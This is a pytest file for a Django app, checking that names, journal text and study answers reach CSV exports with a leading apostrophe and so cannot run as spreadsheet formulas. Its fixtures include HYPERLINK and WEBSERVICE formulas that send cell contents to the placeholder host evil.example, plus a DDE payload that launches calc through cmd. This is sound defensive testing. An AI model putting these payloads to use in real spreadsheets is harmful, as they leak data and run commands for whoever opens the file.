"""Words someone else wrote reach a person's CSV files as text, never as a spreadsheet formula.

A CSV is opened in a spreadsheet. A cell that starts with ``=``, ``+``, ``-`` or ``@`` is run
there as a formula, and a formula can fetch a web address with the other cells in it. The words
in a person's export and in a study's files are written by other people too: the partner's name
is in every notice about them, and every participant writes the study's free-text answers that the
researcher opens beside everyone else's (and their partner's). Such a cell is written with a
leading apostrophe, which spreadsheets read as "this is text"; the Parquet files and the JSON keep
the words exactly.
"""

from __future__ import annotations

import csv
import io
import json
import uuid
import zipfile

import pandas as pd
import pytest
from django.test import Client
from django.urls import reverse

from counterpoint.journal.services import journal_entry_create
from counterpoint.practices.boundaries.services import boundary_state
from counterpoint.privacy.models import Visibility
from counterpoint.privacy.spreadsheet import spreadsheet_text
from tests.web.conftest import World

PASSWORD = "a long and careful passphrase"
# What a hostile name or answer looks like: each runs in a spreadsheet as typed.
NAME = '=HYPERLINK("https://evil.example/?"&A2,"Bob")'
ANSWER = '=WEBSERVICE("https://evil.example/?"&H2)'
OWN_WORDS = "@SUM(1+1)*cmd|' /C calc'!A0"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def _formula_cells(text: str) -> list[str]:
    """Every cell a spreadsheet would run (plain numbers such as -3 are numbers, not formulas)."""
    found = []
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            if cell.startswith(FORMULA_STARTS) and spreadsheet_text(cell) != cell:
                found.append(cell)
    return found


def _signed_in(user, password: str = PASSWORD) -> Client:
    user.set_password(password)
    user.save()
    client = Client()
    response = client.post(
        reverse("accounts:login"), {"username": user.email, "password": password}
    )
    assert response.status_code == 302
    return client


def test_the_partners_name_in_alices_export_is_text_not_a_formula(world: World) -> None:
    bob = world.client_for("B")
    response = bob.post(
        reverse("accounts:settings"), {"display_name": NAME, "time_zone": world.bob.time_zone}
    )
    assert response.status_code == 302
    world.bob.refresh_from_db()
    assert world.bob.display_name == NAME
    # Bob states a boundary: Alice is told "<Bob's name> shared a boundary with you."
    boundary_state(user=world.bob, what="Quiet mornings", why="I think better", submission_key="")
    journal_entry_create(
        user=world.alice,
        title="mine",
        body=OWN_WORDS,
        visibility=Visibility.PRIVATE,
        submission_key=uuid.uuid4().hex,
    )

    response = _signed_in(world.alice).get(reverse("accounts:export"))
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        texts = {n: archive.read(n).decode() for n in archive.namelist() if n.endswith(".csv")}
        notices = json.loads(archive.read("notices.json"))
        entries = json.loads(archive.read("journal_journalentry.json"))

    assert any(n["message"].startswith(NAME) for n in notices)  # the JSON keeps the words
    assert any(e["body"] == OWN_WORDS for e in entries)
    bad = {name: cells for name, text in texts.items() if (cells := _formula_cells(text))}
    assert not bad, bad
    assert f"'{NAME}" in "".join(texts.values()).replace('""', '"')


def test_a_participants_answer_reaches_the_researchers_files_as_text(world: World) -> None:
    prompt = world.objects["prompt_alice"]
    alice = world.client_for("A")
    url = reverse("research:answer", kwargs={"pk": prompt.pk})
    assert alice.get(url).status_code == 200
    response = alice.post(url, {"mood": "6", "calm": "3", "note": ANSWER})
    assert response.status_code == 302

    study = world.objects["study"].pk
    researcher = world.client_for("R")
    for name in ("long.csv", "pairwise.csv"):
        response = researcher.get(
            reverse("research:export_file", kwargs={"pk": study, "name": name})
        )
        assert response.status_code == 200
        text = response.content.decode()
        assert not _formula_cells(text), name
        assert f"'{ANSWER}" in text.replace('""', '"'), name
    mine = alice.get(
        reverse("research:my_data", kwargs={"pk": world.objects["participant_alice"].pk})
    )
    assert not _formula_cells(mine.content.decode())

    parquet = researcher.get(
        reverse("research:export_file", kwargs={"pk": study, "name": "long.parquet"})
    )
    frame = pd.read_parquet(io.BytesIO(parquet.content))
    assert ANSWER in set(frame["note"].dropna())  # Parquet keeps the words exactly


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-", "'-"),
        ("- a list", "'- a list"),
        ("@here", "'@here"),
        ("\t=1", "'\t=1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("-3", "-3"),
        ("+2.5", "+2.5"),
        ("-1e-3", "-1e-3"),
        ("fine = good", "fine = good"),
        ("", ""),
    ],
)
def test_spreadsheet_text(typed: str, written: str) -> None:
    assert spreadsheet_text(typed) == written
